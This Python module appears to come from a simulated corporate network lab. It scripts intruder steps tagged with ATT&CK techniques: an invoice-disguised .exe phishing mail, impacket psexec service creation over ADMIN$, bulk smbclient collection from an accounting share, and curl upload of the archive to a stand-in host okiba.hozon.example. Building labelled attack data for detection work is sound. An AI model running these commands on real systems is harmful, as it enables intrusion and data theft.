# SPDX-License-Identifier: Apache-2.0
"""Acts of the intruder that several scenarios share, and the tools they are made with."""

import contextlib
import io
import os
import random
import threading
import zipfile

from . import files, net, ns, plan, town, work
from .scenario import ZERO
from .work import CURL

IMPACKET = "timeout 60 python3 /usr/share/doc/python3-impacket/examples"
KANRI = "kanri"  # the administrator's account of the Linux servers


def admin(host):
    """The domain administrator at a host, as impacket's programs write it."""
    return f'{plan.DOMAIN}/administrator:"$TOWN_PASSWORD"@{plan.host(host).ipv4}'


def program(p, host, name):
    """Put a program of lab/programs into /tmp of host."""
    p.put(host, f"/tmp/{name}", (town.LAB / "programs" / name).read_bytes())


def run(p, kind, target, text_en, text_ja, technique, script, program=None, host=ZERO, check=False, **facts):
    """One act of the intruder: a script in host, of technique, upon target."""
    if program:
        globals()["program"](p, host, program)
    with p.event(kind, host, target, text_en, text_ja, technique=technique, **facts):
        said = p.on(host, f"set -o pipefail; export TOWN_PASSWORD; {{ {script}\n}} 2>&1 | tail -c 2000", check=check)
        if os.environ.get("KDTOWN_TELL"):
            town.say(said)


@contextlib.contextmanager
def on(p, host, script, name=None):
    """script runs in host while the block runs."""
    if name:
        program(p, host, name)
    proc = ns.Inside(host).popen(["bash", "-c", "echo $$ >/tmp/server.pid; . /etc/town-env; exec " + script])
    threading.Event().wait(1.5)
    try:
        yield
    finally:
        p.on(host, "kill $(cat /tmp/server.pid) 2>/dev/null; true")
        proc.wait(timeout=20)


def outside(p, script):
    """script runs outside while the block runs."""
    return on(p, "outside", script)


def sshd(p, stop=False):
    """Start (or stop) web1's secure shell, with the administrator's account."""
    p.on("web1", "kill $(cat /run/sshd.pid)" if stop else f"""mkdir -p /run/sshd
id {KANRI} >/dev/null 2>&1 || useradd -M -d /tmp -s /bin/bash {KANRI}
echo "{KANRI}:$TOWN_PASSWORD" | chpasswd
rm -f /etc/ssh/ssh_host_*; ssh-keygen -q -t ed25519 -N '' -C web1 -f /etc/ssh/ssh_host_ed25519_key
/usr/sbin/sshd -o PasswordAuthentication=yes -o UsePAM=no -o MaxStartups=50""")


def documents(p, count, folder="shiryo"):
    """Fill a folder of the accounting share with text documents, put there by an ordinary client beforehand."""
    rows = files.roster().decode("cp932").splitlines()
    pick = random.Random(3)
    for number in range(count):
        body = "\r\n".join(pick.sample(rows, 70)).encode("cp932")
        p.put("fs1", f"/srv/kaikei/{folder}/資料_{number:02d}.csv", body)
    p.on("fs1", "chmod -R 0777 /srv/kaikei")


def mail_attachment(p, to="sato"):
    """A mail from outside with a packed program that calls itself an invoice."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("請求書_202611.pdf.exe", (2026, 11, 20, 9, 0, 0)), files.program())
    with p.event("phishing", ZERO, "mail1", "receives a packed program as an invoice", "請求書を装ったプログラムを受信",
                 technique="T1566.001"):
        work.send_mail(p, "outside", "keiri@seikyu-update.example", f"{to}@{plan.DOMAIN}",
                       "【重要】請求書送付のご案内", "ご担当者様\n\n請求書をお送りします。本日中にご確認ください。\n",
                       [("請求書_202611.zip", "application/zip", packed.getvalue())], charset="utf-8",
                       server=plan.host("mail1").ipv4)


def remote_service(p, host):
    """Copy a program to an administrative share and make a service of it."""
    run(p, "remote-service", "fs1", "copies a program and makes a service of it", "プログラムを複製しサービスとして登録",
        "T1569.002", f"""cd /root; smbclient '//fs1/ADMIN$' -U 'KOMOREBI\\administrator%'"$TOWN_PASSWORD" -c 'put kanri_tool.exe kanri_svc.exe'
{IMPACKET}/psexec.py -file /root/kanri_tool.exe -service-name KanriSvc {admin('fs1')} hostname""", host=host)


@contextlib.contextmanager
def big_frames(*hosts):
    """Segments travel joined, as a capture with offloading shows them: large transfers in few packets."""
    ports = {h: f"p{plan.host(h).number}-{plan.host(h).segment}"[:15] for h in hosts}
    try:
        _offload(ports, "on")
        yield
    finally:
        _offload(ports, "off")


def _offload(ports, state):
    for host, port in ports.items():
        for where, link in ((host, "eth0"), (net.ROUTER, port)):
            ns.Inside(where).sh(f"ethtool -K {link} tx {state} tso {state} gso {state} gro {state} >/dev/null", check=False)


def collect(p, host, megabytes=54):
    """Read everything in a share and pack it."""
    line = files.roster()
    for number in range(megabytes):
        p.put("fs1", f"/srv/kaikei/shiryo/kessan_{number:02d}.csv", (line * (1048576 // len(line) + 1))[:1048576])
    p.on("fs1", "chmod -R 0777 /srv/kaikei")
    with p.event("collection", host, "fs1", "reads all documents of the accounting share", "会計課の共有から資料を収集",
                 technique="T1039"):
        p.on(host, "mkdir -p /tmp/shuushuu && cd /tmp/shuushuu && smbclient //fs1/kaikei -U 'KOMOREBI\\sato%'\"$TOWN_PASSWORD\""
                   " -c 'prompt off; recurse on; mget shiryo' >/dev/null 2>&1 && tar -cf /tmp/shuushuu.dat shiryo")


def carry_out(p, host):
    """Send the collected files to a place outside."""
    with p.event("exfiltration", host, "outside", "sends the collected files outside", "収集した資料を外部に送信",
                 technique="T1048", ip=plan.PLACES["okiba.hozon.example"]):
        p.on(host, f"{CURL} -A 'Mozilla/5.0' -T /tmp/shuushuu.dat http://okiba.hozon.example/u/7f3a", timeout=120)


def mail_marked(p):
    """A document marked confidential goes to a private mailbox outside."""
    with p.event("mail-exfiltration", ZERO, "mail1", "mails a marked document outside", "秘密文書を外部にメール送信",
                 technique="T1048.003"):
        work.send_mail(p, ZERO, f"sato@{plan.DOMAIN}", "info@kensetsu.example", "資料",
                       "【機密性3情報】 取扱注意\n\n資料を送ります。\n",
                       [("【秘】入札予定価格一覧.csv", "text/csv", files.roster())])
